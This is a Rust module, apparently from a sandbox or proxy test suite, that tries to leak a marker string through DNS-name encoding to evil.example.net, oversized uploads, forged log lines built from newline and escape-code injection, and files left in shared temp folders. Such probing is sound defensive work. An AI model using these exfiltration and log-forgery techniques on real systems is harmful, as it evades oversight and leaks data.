//! Attempts to leak data without a connection of their own: in names, in allowed requests, in what is recorded.

use std::fs;

use super::client::{Client, tls};
use super::{Aims, Attempt, Tried, attempt, knock};

/// The data that is to leak.
pub(crate) const CARGO: &str = "c4f3d00d5ec7e7";
/// The beginning of a forged line.
pub(crate) const FORGED: &str = "{\"forged\":";
/// How many bytes are sent where fewer are allowed.
const MUCH: usize = 4 << 20;
const PLACES: [&str; 3] = ["/dev/shm", "/tmp", "/var/tmp"];

pub(super) fn attempts(id: u16, aims: &Aims) -> Vec<Attempt> {
    match id {
        125 => lookups(aims),
        126 => uploads(aims),
        128 => forged(aims),
        130 => vec![attempt("left in shared places", share)],
        _ => Vec::new(),
    }
}

/// Looks up names that contain data. The resolver sees whether a query for them arrived.
fn lookups(aims: &Aims) -> Vec<Attempt> {
    let names = [
        format!("{CARGO}.evil.example.net"),
        format!("{CARGO}.allowed.example.com"),
        format!("{CARGO}.{CARGO}.wild.example.com"),
    ];
    let mut all = Vec::new();
    for name in names {
        let (one, two, three) = (name.clone(), name.clone(), name.clone());
        all.push(knock(format!("GET {name}"), aims, &[], move |client| {
            client.get(&format!("http://{one}/"), "")
        }));
        all.push(knock(format!("CONNECT {name}"), aims, &[], move |client| {
            client.tunnel(format!("{two}:443").as_bytes()).map(|_| Vec::new())
        }));
        all.push(knock(format!("SOCKS {name}"), aims, &[], move |client| {
            client.socks(three.as_bytes(), 443).map(|_| Vec::new())
        }));
    }
    all
}

/// Uploads more than the policy allows, in one piece and in several.
fn uploads(aims: &Aims) -> Vec<Attempt> {
    let body = |count: usize| {
        format!(
            "POST http://allowed.example.com/echo/126 HTTP/1.1\r\nHost: allowed.example.com\r\nConnection: close\r\nContent-Length: {count}\r\n\r\n{}",
            "u".repeat(count)
        )
    };
    let whole = body(MUCH);
    let piece = body(64 << 10);
    vec![
        knock("in one piece", aims, &[], move |client| client.say(whole.as_bytes())),
        knock("in many pieces", aims, &[], move |client| {
            for _ in 0..MUCH / (64 << 10) {
                client.say(piece.as_bytes())?;
            }
            Ok(Vec::new())
        }),
        knock("with TLS", aims, &[], |client| {
            let mut stream = tls(
                client.tunnel(b"allowed.example.com:443")?,
                "allowed.example.com",
                "http/1.1",
            )?;
            let words = format!(
                "POST /echo/126 HTTP/1.1\r\nHost: allowed.example.com\r\nContent-Length: {MUCH}\r\n\r\n{}",
                "u".repeat(MUCH)
            );
            std::io::Write::write_all(&mut stream, words.as_bytes())?;
            super::client::answer(&mut stream)
        }),
    ]
}

/// Causes refusals that would write lines of the attacker's own.
fn forged(aims: &Aims) -> Vec<Attempt> {
    let line = format!("\n{FORGED}\"yes\"}}\n\u{1b}[2J");
    let (name, path, header) = (line.clone(), line.clone(), line);
    vec![
        knock("a name", aims, &[], move |client| {
            let name = format!("evil.example.net{name}");
            client.socks(name.as_bytes(), 443).map(|_| Vec::new())
        }),
        knock("a path", aims, &[], move |client| {
            let path: String = path.replace('\n', "%0a").replace('\u{1b}', "\u{9b}");
            client.get(&format!("http://evil.example.net/{path}"), "")
        }),
        knock("a bare path", aims, &[], move |client| {
            let words = format!("GET http://evil.example.net/{header} HTTP/1.1\r\nHost: evil.example.net\r\n\r\n");
            client.say(words.as_bytes())
        }),
        knock("a long name", aims, &[], |client| {
            let name = "a.".repeat(120);
            Client::socks(client, name.as_bytes(), 443).map(|_| Vec::new())
        }),
    ]
}

/// Leaves data where another run could find it, and looks for what another run left.
fn share() -> Tried {
    let mut found = Vec::new();
    for place in PLACES {
        let path = format!("{place}/{CARGO}");
        if fs::exists(&path).unwrap_or(false) {
            found.push(path);
        } else {
            // A folder that is not writable carries nothing.
            let _ = fs::write(&path, CARGO);
        }
    }
    if found.is_empty() {
        Tried::WithoutEffect("nothing of another run".to_owned())
    } else {
        Tried::Succeeded(format!("left by another run: {}", found.join(", ")))
    }
}
